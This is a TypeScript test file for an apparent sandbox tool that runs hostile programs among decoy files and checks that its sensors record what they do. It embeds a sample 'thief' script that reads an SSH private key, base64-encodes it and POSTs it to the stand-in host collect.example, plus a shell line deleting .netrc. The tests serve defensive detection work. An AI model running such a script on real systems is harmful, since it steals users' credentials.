import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type Event, eventSchema } from '../../../src/base/event-schema.ts';
import type { Policy } from '../../../src/base/policy-schema.ts';
import { Cell, type CellOptions, completenessReportSchema } from '../../../src/engine/cell/index.ts';
import { tierPolicy } from '../../../src/engine/policy/index.ts';
import { readEvents } from '../../../src/engine/sensor/event-log.ts';
import { Arena } from '../box/arena.ts';

/** A box with decoys, sensors and a network: what one hostile visitor does in it is shown as one story. */

const thief = `
const { readFileSync, readdirSync } = require('node:fs');
const { request } = require('node:https');
const home = process.env.HOME;
readdirSync(home + '/.ssh');
const key = readFileSync(home + '/.ssh/id_ed25519').toString('base64');
const post = request('https://collect.example/in', { method: 'POST' }, (answer) => {
  answer.resume();
  answer.on('end', () => console.log('sent', answer.statusCode));
});
post.on('error', (error) => console.log('not sent', error.code));
post.end('data=' + key);
`;

const policyFor = (mode: Policy['network']['mode']): Policy => ({
  ...tierPolicy('HIGH'),
  network: { mode, rules: [] },
});

async function eventsOf(folder: string): Promise<Event[]> {
  const events: Event[] = [];
  for await (const event of readEvents(join(folder, 'events.ndjson'))) events.push(event);
  return events;
}

const made: string[] = [];
afterEach(() => {
  for (const folder of made.splice(0)) rmSync(folder, { recursive: true, force: true });
});

async function visit(policy: Policy, options: Omit<CellOptions, 'folder'>, argv: readonly string[]) {
  const folder = mkdtempSync('/tmp/hotcell-cell-');
  made.push(folder);
  const cell = await Cell.open(policy, { ...options, folder });
  const output = await speak(cell, argv).catch(async (error: unknown) => {
    await cell.close();
    throw error;
  });
  const report = await cell.close();
  return { folder, cell, output, report, events: await eventsOf(folder) };
}

async function speak(cell: Cell, argv: readonly string[]): Promise<string> {
  const child = await cell.spawn(argv);
  child.stdin.end();
  const [output] = await Promise.all([text(child.stdout), text(child.stderr), child.exited]);
  return output;
}

const namespacesOf = (run: string): readonly string[] =>
  existsSync('/run/netns') ? readdirSync('/run/netns').filter((name) => name.includes(run)) : [];

describe.each(['gvisor', 'runc', 'bwrap'] as const)('a thief in a %s cell', (backend) => {
  const arena = new Arena();
  beforeAll(() => arena.open(backend));
  afterAll(() => arena.close());

  it('is shown reading, encoding and sending, as one process', async (context) => {
    await arena.need(backend, context);
    const { output, report, events, folder, cell } = await visit(policyFor('fake'), { backend, ...arena.options }, [
      '/usr/bin/node',
      '-e',
      thief,
    ]);
    expect(output).toBe('sent 200\n');
    const leak = events.find(({ kind, fields }) => kind === 'leak' && fields.via === 'collect.example:443');
    const read = events.find(({ kind }) => kind === 'bait-read');
    expect(read?.fields).toMatchObject({ decoy: '.ssh/id_ed25519' });
    expect(leak?.fields).toMatchObject({ planted: 'file .ssh/id_ed25519', encodings: ['base64'] });
    expect(leak?.fields.readBy).toContainEqual({ seq: read?.seq, pid: read?.process?.pid });
    expect(leak?.process?.pid).toBe(read?.process?.pid);
    // The folder was listed before: walking through is no reading.
    expect(events.filter(({ kind }) => kind === 'bait-read')).toHaveLength(1);
    expect(report.isComplete).toBe(true);
    expect(report.sensors.map(({ source }) => source).sort()).toEqual(
      ['disk-diff', backend === 'gvisor' ? 'gvisor-trace' : 'seccomp-notify', 'wire'].sort(),
    );
    for (const [at, event] of events.entries()) expect(eventSchema.parse(event).seq).toBe(at);
    const written: unknown = JSON.parse(readFileSync(join(folder, 'completeness.json'), 'utf8'));
    expect(completenessReportSchema.parse(written)).toEqual(report);
    expect(statSync(join(folder, 'traffic.pcapng')).size).toBeGreaterThan(1000);
    expect(namespacesOf(cell.runId)).toEqual([]);
    expect(arena.leftovers([cell.box.record.id])).toEqual([]);
  });

  it('leaves nothing of the airlock in the log but its heartbeats', async (context) => {
    await arena.need(backend, context);
    const { events } = await visit(policyFor('none'), { backend, ...arena.options }, ['/usr/bin/true']);
    const target = events.findIndex(
      ({ kind, fields }) => kind === 'exec' && JSON.stringify(fields.path).includes('true'),
    );
    const before = events.slice(0, target).map(({ kind }) => kind);
    expect(before.filter((kind) => !['heartbeat', 'fork', 'exec'].includes(kind))).toEqual([]);
    expect(JSON.stringify(events)).not.toContain('planted-by-hotcell');
  });

  it('tells of every phase that its sensors lived in it', async (context) => {
    await arena.need(backend, context);
    const folder = mkdtempSync('/tmp/hotcell-cell-');
    made.push(folder);
    const cell = await Cell.open(policyFor('none'), { backend, ...arena.options, folder, decoys: null });
    const child = await cell.spawn(['/bin/cat']);
    child.stdout.resume();
    child.stderr.resume();
    await cell.enter('handshake');
    await cell.enter('use');
    child.stdin.end();
    await child.exited;
    const report = await cell.close();
    const beats = (await eventsOf(folder)).filter(({ kind }) => kind === 'heartbeat');
    expect(beats.map(({ phase, fields }) => `${phase} ${String(fields.of)}`)).toEqual(
      ['start', 'handshake', 'use'].flatMap((phase) => [`${phase} open`, `${phase} connect`]),
    );
    expect(report.sensors.find(({ heartbeats }) => heartbeats.expected > 0)?.heartbeats).toEqual({
      expected: 3,
      seen: 3,
    });
    expect(report.isComplete).toBe(true);
  });

  it('keeps what was put on the disk, under its hash', async (context) => {
    await arena.need(backend, context);
    const script =
      'printf secret > "$HOME/a,b"; printf x > "$HOME/$(printf "bad\\377name")"; mkdir "$HOME/d"; rm "$HOME/.netrc"';
    const { events, folder } = await visit(policyFor('none'), { backend, ...arena.options }, ['/bin/sh', '-c', script]);
    const changes = events.filter(({ kind }) => kind === 'disk-change');
    const seen = changes.map(({ fields }) => `${String(fields.change)} ${String(fields.type)}`).sort();
    expect(seen).toEqual(['created file', 'created file', 'created folder', 'removed file']);
    const kept = changes.find(({ fields }) => JSON.stringify(fields.path).includes('a,b'))?.fields.keptAs;
    expect(readFileSync(join(folder, 'disk', String(kept)), 'utf8')).toBe('secret');
    // The name that is no UTF-8 is known by its bytes, and its content kept as well.
    expect(changes.filter(({ fields }) => fields.keptAs !== undefined)).toHaveLength(2);
  });
});

describe('a landlock cell', () => {
  const arena = new Arena();
  afterAll(() => arena.close());

  it('has no network, says so, and still shows the reading', async (context) => {
    await arena.need('landlock', context);
    const { output, events, report, cell } = await visit(policyFor('fake'), { backend: 'landlock', ...arena.options }, [
      '/usr/bin/node',
      '-e',
      thief,
    ]);
    expect(output).toMatch(/^not sent/);
    expect(cell.box.record.isOnNetwork).toBe(false);
    expect(cell.box.record.gaps.map(({ id }) => id)).toContain('network-closed');
    expect(events.some(({ kind }) => kind === 'bait-read')).toBe(true);
    expect(events.some(({ kind }) => kind === 'leak')).toBe(false);
    expect(report.isComplete).toBe(true);
  });
});

describe('a cell that cannot be made', () => {
  it('leaves nothing behind', async () => {
    const runId = `never-${process.pid}`;
    const folder = mkdtempSync('/tmp/hotcell-cell-');
    made.push(folder);
    const options = { backend: 'docker' as const, runtimeFolder: folder, dockerSocket: '/nonexistent', folder, runId };
    await expect(Cell.open(policyFor('fake'), options)).rejects.toThrow(/no isolation available/);
    expect(namespacesOf(runId)).toEqual([]);
  });
});
